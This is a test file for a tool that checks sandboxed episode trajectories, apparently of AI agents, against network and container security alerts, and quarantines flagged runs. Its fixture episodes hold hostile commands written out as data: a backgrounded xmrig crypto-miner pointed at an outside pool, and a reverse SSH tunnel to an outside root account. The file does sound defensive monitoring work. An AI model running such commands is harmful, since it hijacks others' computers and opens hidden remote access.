import { mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { expect, test } from 'vitest';
import { temporaryFolder } from '../support/temporary.ts';
import { hashesOf, trajsieve } from '../support/trajsieve.ts';
import { eve, falco, minutes, noon, readParquet, rollRow, type TestEpisode } from './world.ts';

const episodes: readonly TestEpisode[] = [
  { id: 'quiet', start: noon, end: noon + 20 * minutes, host: '10.0.0.1', sandbox: 'sb-quiet' },
  {
    id: 'miner',
    start: noon,
    end: noon + 20 * minutes,
    host: '10.0.0.2',
    sandbox: 'sb-miner',
    commands: ['ls', 'nohup ./xmrig -o stratum+tcp://45.9.148.3:3333 -u wallet &'],
  },
  {
    id: 'hidden',
    start: noon,
    end: noon + 20 * minutes,
    host: '10.0.0.3',
    sandbox: 'sb-hidden',
    commands: ['bash update.sh'],
  },
  {
    id: 'unseen',
    start: noon,
    end: noon + 20 * minutes,
    host: '10.0.0.4',
    commands: ['ssh -f -N -R 2222:localhost:22 root@203.0.113.7'],
  },
];

/** A folder with trajectories in two files, alerts and a lease table. */
function world(): { folder: string; inputs: string[]; alerts: string[] } {
  const folder = temporaryFolder();
  const line = (episode: TestEpisode) => `${JSON.stringify(rollRow(episode))}\n`;
  mkdirSync(join(folder, 'data'));
  const inputs = ['a.jsonl', 'b.jsonl'].map((name) => join(folder, 'data', name));
  writeFileSync(inputs[0]!, episodes.slice(0, 2).map(line).join(''));
  writeFileSync(inputs[1]!, episodes.slice(2).map(line).join(''));
  const alerts = ['eve.json', 'falco.json'].map((name) => join(folder, name));
  writeFileSync(
    alerts[0]!,
    `${eve({ time: noon + 5 * minutes, from: '10.0.0.2' })}\n${eve({ time: noon + 6 * minutes, from: '10.0.0.77' })}\n`,
  );
  writeFileSync(alerts[1]!, `${falco(noon + 7 * minutes, { 'container.name': 'sb-hidden' })}\n`);
  return { folder, inputs, alerts };
}

test('correlate examines the trajectories, and says what is borne out, what no sensor saw and what nothing explains', async () => {
  const { folder, inputs, alerts } = world();
  const out = join(folder, 'out');
  const result = trajsieve(['correlate', ...inputs, '--alerts', ...alerts, '--out', out, '--json']);
  expect(result.stderr).toContain('3 alerts = 2 matched + 0 ambiguous + 1 unexplained + 0 unreadable');
  expect(result.status).toBe(0);
  const printed = JSON.parse(result.stdout) as Record<string, unknown>;
  const written = JSON.parse(readFileSync(join(out, 'correlation.json'), 'utf8')) as Record<string, unknown>;
  expect(printed).toEqual({ out, ...written });
  expect(written).toMatchObject({ findings: 2, timelines: [{ id: 'miner' }, { id: 'hidden' }] });
  const borne = await readParquet(join(out, 'corroborated.parquet'));
  expect(new Set(borne.map(({ id }) => id))).toEqual(new Set(['miner']));
  expect(borne[0]).toMatchObject({ step: 4, alerts: 1, feed: 'suricata' });
  const unseen = await readParquet(join(out, 'unseen.parquet'));
  expect(new Set(unseen.map(({ id }) => id))).toEqual(new Set(['unseen']));
  expect(unseen[0]).toMatchObject({ covered: true });
  expect(await readParquet(join(out, 'unexplained.parquet'))).toMatchObject([{ source_ip: '10.0.0.77' }]);
});

test('the same inputs give the same bytes, and a second run takes the place of the first', () => {
  const { folder, inputs, alerts } = world();
  const out = join(folder, 'out');
  const words = ['correlate', ...inputs, '--alerts', ...alerts, '--out', out, '--quiet'];
  expect(trajsieve(words).status).toBe(0);
  const first = hashesOf(out);
  expect(Object.keys(first).sort()).toEqual([
    'ambiguous.parquet',
    'config.json',
    'correlation.json',
    'corroborated.parquet',
    'findings/telemetry.parquet',
    'matches.parquet',
    'unexplained.parquet',
    'unreadable.parquet',
    'unseen.parquet',
  ]);
  expect(trajsieve(words).status).toBe(0);
  expect(hashesOf(out)).toEqual(first);
});

test('the findings of an earlier run are compared as those that are made now', async () => {
  const { folder, inputs, alerts } = world();
  const made = join(folder, 'made');
  expect(trajsieve(['run', ...inputs, '--out', made, '--quiet']).status).toBe(0);
  const words = ['correlate', ...inputs, '--alerts', ...alerts, '--quiet'];
  expect(trajsieve([...words, '--out', join(folder, 'now')]).status).toBe(0);
  expect(trajsieve([...words, '--out', join(folder, 'then'), '--findings', made]).status).toBe(0);
  const rows = async (name: string) =>
    (await readParquet(join(folder, name, 'unseen.parquet'))).map(({ covered: _, ...row }) => row);
  expect((await rows('then')).length).toBeGreaterThan(0);
  expect(await rows('then')).toEqual(await rows('now'));
});

test('exit codes: 4 where a line cannot be read, 2 where the command is wrong, 1 where a time names no zone', () => {
  const { folder, inputs, alerts } = world();
  writeFileSync(alerts[1]!, '{"rule": \n', { flag: 'a' });
  const words = ['correlate', ...inputs, '--out', join(folder, 'out'), '--quiet', '--no-examine'];
  expect(trajsieve([...words, '--alerts', ...alerts]).status).toBe(4);
  expect(trajsieve(words)).toMatchObject({
    status: 2,
    stderr: expect.stringContaining('--alerts is missing'),
  });
  const wrong = trajsieve([...words, '--alerts', ...alerts, '--tolerance', 'suricato=3s']);
  expect(wrong).toMatchObject({ status: 2, stderr: expect.stringContaining('did you mean suricata') });
  writeFileSync(alerts[1]!, falco(noon, {}).replace('Z"', '"'));
  const naive = trajsieve([...words, '--alerts', ...alerts]);
  expect(naive).toMatchObject({
    status: 1,
    stderr: expect.stringMatching(/names no time zone.*falco\.json:1.*--naive-tz/),
  });
});

test('a folder that holds something else is left alone', () => {
  const { folder, inputs, alerts } = world();
  const result = trajsieve([
    'correlate',
    ...inputs,
    '--alerts',
    ...alerts,
    '--out',
    join(folder, 'data'),
    '--no-examine',
  ]);
  expect(result).toMatchObject({
    status: 1,
    stderr: expect.stringContaining('holds something that is no correlation'),
  });
});

test('run --alerts decides rows by what the sensors saw, whatever the prefilter and the number of workers', async () => {
  const { folder, inputs, alerts } = world();
  const words = ['run', ...inputs, '--alerts', ...alerts, '--quiet'];
  const variants = { one: ['--workers', '1'], two: ['--workers', '2'], plain: ['--no-prefilter'] };
  for (const [name, own] of Object.entries(variants))
    expect(trajsieve([...words, '--out', join(folder, name), ...own]).status).toBe(0);
  const shards = (name: string) =>
    Object.fromEntries(
      Object.entries(hashesOf(join(folder, name))).filter(([path]) =>
        /^(?:data|quarantine|findings|correlation)\/.*\.parquet$/.test(path),
      ),
    );
  expect(shards('two')).toEqual(shards('one'));
  const findings = async (name: string) =>
    (
      await readParquet(
        ...Object.keys(shards(name))
          .filter((path) => path.startsWith('findings/'))
          .map((path) => join(folder, name, path)),
      )
    ).map(({ id, detector, rule, severity, outcome, step }) => ({
      id,
      detector,
      rule,
      severity,
      outcome,
      step,
    }));
  expect(await findings('plain')).toEqual(await findings('one'));
  const found = await findings('one');
  expect(found).toContainEqual(
    expect.objectContaining({
      id: 'hidden',
      detector: 'telemetry',
      severity: 'critical',
      outcome: 'unknown',
    }),
  );
  expect(found).toContainEqual(
    expect.objectContaining({ id: 'miner', detector: 'telemetry', step: 4, outcome: 'succeeded' }),
  );
  const report = JSON.parse(readFileSync(join(folder, 'one', 'report.json'), 'utf8')) as {
    rows: Record<string, number>;
  };
  expect(report.rows).toMatchObject({ in: 4, kept: 1, quarantined: 3 });
  expect(trajsieve(['verify', join(folder, 'one')]).status).toBe(0);
  const unseen = await readParquet(join(folder, 'one', 'correlation', 'unseen.parquet'));
  expect(new Set(unseen.map(({ id }) => id))).toEqual(new Set(['unseen']));
  // what is done is not done again, and other alerts are another run
  expect(trajsieve([...words, '--out', join(folder, 'one')]).status).toBe(0);
  writeFileSync(alerts[0]!, `${eve({ time: noon, from: '10.0.0.1' })}\n`);
  expect(trajsieve([...words, '--out', join(folder, 'one')])).toMatchObject({
    status: 1,
    stderr: expect.stringContaining('alerts'),
  });
}, 300_000);
